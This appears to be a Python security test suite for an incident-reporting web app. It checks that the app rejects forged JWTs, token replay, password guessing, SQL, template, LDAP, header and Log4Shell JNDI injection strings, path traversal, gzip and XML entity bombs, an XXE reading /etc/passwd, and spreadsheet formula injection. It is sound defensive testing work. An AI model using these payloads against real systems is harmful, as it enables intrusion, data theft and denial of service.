@@ -1,0 +1,289 @@
+"""What an attacker tries: forged and stolen tokens, guessing, injection, files that burst,
+formulas, foreign hosts.
+"""
+
+import base64
+import gzip
+import hashlib
+import io
+import json
+import statistics
+import time as real
+import uuid
+import zipfile
+from datetime import UTC, datetime, timedelta
+
+import jwt
+import openpyxl
+import pytest
+from PIL import Image
+
+from app.core.db import db, transaction
+from app.core.sheets import csv_file, workbook
+from app.people.models import Officer
+from app.people.service import HASHER
+from app.people.service.sessions import AUDIENCE
+from tests.support import filings, world
+
+INJECTIONS = (
+    "' OR '1'='1",
+    "'; DROP TABLE incident; --",
+    "1) UNION SELECT password_hash FROM officer --",
+    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
+    "${jndi:ldap://evil/a}",
+    "\r\nSet-Cookie: admin=1",
+    "<script>alert(1)</script>",
+    "../../../../etc/passwd",
+    "%0d%0aX-Injected: 1",
+    "*)(uid=*))(|(uid=*",
+)
+
+
+def forged(claims, key, algorithm="HS256", **headers):
+    return jwt.encode(claims, key, algorithm=algorithm, headers=headers or None)
+
+
+def test_forged_tokens_open_nothing(app, people):
+    in_an_hour = datetime.now(UTC) + timedelta(hours=1)
+    good = {"sub": str(people.admin.id), "aud": AUDIENCE, "exp": in_an_hour}
+    key = app.config["SECRET_KEY"]
+    head = base64.urlsafe_b64encode(b'{"alg":"none","typ":"JWT"}').rstrip(b"=").decode()
+    body = (
+        base64.urlsafe_b64encode(json.dumps(good | {"exp": 4102444800}).encode())
+        .rstrip(b"=")
+        .decode()
+    )
+    tokens = [
+        f"{head}.{body}.",
+        forged(good, "another key of thirty-two characters"),
+        forged(good, key, "HS512"),
+        forged(good | {"aud": "another program"}, key),
+        forged({k: v for k, v in good.items() if k != "exp"}, key),
+        forged({k: v for k, v in good.items() if k != "aud"}, key),
+        forged(good | {"exp": datetime.now(UTC) - timedelta(seconds=1)}, key),
+        forged(good | {"sub": "999999"}, key),
+        forged(good | {"sub": "1 OR 1=1"}, key),
+        "not.a.token",
+    ]
+    client = app.test_client()
+    for token in tokens:
+        answer = client.get("/api/v1/me", headers={"Authorization": f"Bearer {token}"})
+        assert answer.status_code == 401, token
+        assert answer.json["code"] in ("signed_out", "token_expired")
+    assert (
+        client.get(
+            "/api/v1/me", headers={"Authorization": f"Bearer {forged(good, key)}"}
+        ).status_code
+        == 200
+    )
+
+
+def test_a_stolen_refresh_token_ends_the_whole_sign_in_and_the_owner_is_told(people):
+    wang = people.wang
+    stolen = wang.session["refresh_token"]
+    second = wang.post("/auth/refresh", {"refresh_token": stolen}).json["refresh_token"]
+    third = wang.post("/auth/refresh", {"refresh_token": second}).json["refresh_token"]
+    assert wang.post("/auth/refresh", {"refresh_token": stolen}).json["code"] == "token_revoked", (
+        "replayed by the thief"
+    )
+    assert wang.post("/auth/refresh", {"refresh_token": third}).json["code"] == "token_revoked", (
+        "and nobody goes on with what grew from it"
+    )
+    assert any(notice["kind"] == "token_theft" for notice in wang.get("/notices").json["items"])
+
+
+def test_tokens_of_somebody_who_left_or_changed_posts_open_nothing_more(app, people, time):
+    assert people.wang.get("/incidents").status_code == 200
+    people.east.put(f"/officers/{people.wang.id}", {"ends_on": "2026-06-30"})
+    assert people.wang.get("/incidents").json["code"] == "signed_out", (
+        "at once, though the token is good for an hour"
+    )
+    assert (
+        people.wang.post(
+            "/auth/refresh", {"refresh_token": people.wang.session["refresh_token"]}
+        ).status_code
+        == 401
+    )
+
+
+def test_an_unknown_user_takes_as_long_to_refuse_as_a_known_one(app, people, time):
+    with app.app_context(), transaction():
+        db.session.scalars(
+            db.select(Officer).where(Officer.username == "li")
+        ).one().password_hash = HASHER.hash("a password")
+    client = app.test_client()
+
+    def spent(username):
+        began = real.process_time()
+        answer = client.post(
+            "/api/v1/auth/login",
+            json={"username": username, "password": "wrong"},
+            environ_base={"REMOTE_ADDR": f"203.0.113.{uuid.uuid4().int % 250}"},
+        )
+        assert answer.json["code"] == "wrong_credentials"
+        return real.process_time() - began
+
+    spent("li")
+    pairs = [(spent("li"), spent(f"nobody{n}")) for n in range(7)]
+    known, unknown = (statistics.median(column) for column in zip(*pairs, strict=True))
+    assert 0.5 < known / unknown < 2, (known, unknown)
+
+
+def test_many_guesses_at_once_are_slowed_like_many_in_a_row(app, people, time):
+    client = app.test_client()
+    codes = [
+        client.post("/api/v1/auth/login", json={"username": "chief", "password": f"guess{n}"}).json[
+            "code"
+        ]
+        for n in range(8)
+    ]
+    assert codes[:5] == ["wrong_credentials"] * 5
+    assert set(codes[5:]) == {"slow_down"}
+    elsewhere = client.post(
+        "/api/v1/auth/login",
+        json={"username": "chief", "password": world.PASSWORD},
+        environ_base={"REMOTE_ADDR": "203.0.113.7"},
+    )
+    assert elsewhere.status_code == 200, "the account itself is never locked"
+
+
+@pytest.mark.parametrize("text", INJECTIONS)
+def test_text_is_only_ever_text(app, people, time, text):
+    case, now = filings.new_id(), time.now()
+    filed = people.wang.put(
+        f"/incidents/{case}", filings.incident(now, description=text, place=text)
+    )
+    assert filed.status_code == 201
+    shown = people.east.get(f"/incidents/{case}")
+    assert shown.json["description"] == shown.json["place"] == text
+    assert shown.mimetype == "application/json"
+    found = people.east.get("/incidents", query_string={"q": text[:30]})
+    assert found.status_code == 200
+    assert "Set-Cookie" not in found.headers
+    assert "X-Injected" not in found.headers
+    for path in (f"/cells/{text}", f"/photos/{text}", f"/kinds/{text}"):
+        assert people.east.get(path.replace("\r\n", "")).status_code in (404, 405)
+    with app.app_context():
+        assert db.session.scalar(db.text("SELECT count(*) FROM incident")) == 1
+
+
+def test_what_bursts_is_refused_before_it_does(people):
+    bomb = gzip.compress(b" " * (64 * 1024 * 1024))
+    headers = {"Content-Encoding": "gzip", "Content-Type": "application/json"}
+    assert (
+        people.wang.call("PUT", f"/incidents/{filings.new_id()}", data=bomb, headers=headers).json[
+            "code"
+        ]
+        == "too_large"
+    )
+    pixels = io.BytesIO()
+    Image.new("1", (30_000, 30_000)).save(pixels, "PNG")
+    name = hashlib.sha256(pixels.getvalue()).hexdigest()
+    began = real.process_time()
+    answer = people.wang.put(f"/photos/{name}", data=pixels.getvalue())
+    assert answer.status_code in (201, 413, 415)
+    assert real.process_time() - began < 2, "never decoded here"
+
+
+def lone_cell():
+    """A workbook of five kilobytes whose only cell lies far down and right."""
+    book = openpyxl.Workbook()
+    book.active["XFD5000"] = "x"
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def many_parts():
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for n in range(5000):
+            archive.writestr(f"xl/{n}.xml", "")
+    return out.getvalue()
+
+
+def entities():
+    """A workbook whose strings multiply by a billion when they are read, and one that asks for a
+    file.
+    """
+    text = (
+        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
+        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
+        + "]>"
+    )
+    return with_strings(
+        text
+        + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&j;</t></si></sst>'
+    )
+
+
+def reaches_outside():
+    text = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
+    return with_strings(
+        text
+        + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&a;</t></si></sst>'
+    )
+
+
+def with_strings(xml):
+    book = openpyxl.Workbook()
+    book.active.append(["username", "name"])
+    first = io.BytesIO()
+    book.save(first)
+    out = io.BytesIO()
+    with zipfile.ZipFile(first) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
+        for item in old.namelist():
+            new.writestr(
+                item,
+                f'<?xml version="1.0"?>{xml}'
+                if item.endswith("sharedStrings.xml")
+                else old.read(item),
+            )
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("make", [lone_cell, many_parts, entities, reaches_outside])
+def test_workbooks_that_burst_or_reach_outside_are_refused_at_once(people, make):
+    began = real.process_time()
+    answer = people.admin.post("/officers/import?dry_run=true", data=make())
+    assert answer.status_code == 422, answer.text
+    assert "root:" not in answer.text
+    assert real.process_time() - began < 3
+
+
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "＝1+1", " =1"]
+)
+def test_no_table_runs_what_people_wrote(text):
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook({"表": (("甲",), [(text,)])}))).worksheets[0]
+    assert sheet["A2"].data_type == "s"
+    assert (
+        csv_file(("甲",), [(text,)]).decode("utf-8-sig").splitlines()[1].lstrip('"').startswith("'")
+    )
+
+
+def test_a_channel_cannot_turn_off_what_protects_it(app, people):
+    app.config["CHANNELS"] = frozenset({"json"})
+    try:
+        for address in (
+            "json://host?verify=no",
+            "json://host/?redirect=yes",
+            "file:///etc/passwd",
+            "json://a,json://b",
+        ):
+            assert people.wang.put("/me/channel", {"address": address}).status_code == 422, address
+        assert people.wang.put("/me/channel", {"address": "json://host/path"}).status_code == 204
+    finally:
+        app.config["CHANNELS"] = frozenset()
+
+
+def test_no_answer_shows_how_the_program_is_built(app, people):
+    for path, headers in (
+        ("/api/v1/incidents?cursor=%00", {}),
+        ("/api/v1/incidents/1", {}),
+        ("/x" * 3000, {}),
+        ("/", {"Host": "evil"}),
+    ):
+        text = app.test_client().get(path, headers=people.wang.headers | headers).text
+        for word in ("Traceback", "sqlalchemy", "psycopg", "site-packages", "werkzeug"):
+            assert word not in text.lower() if word.islower() else word not in text
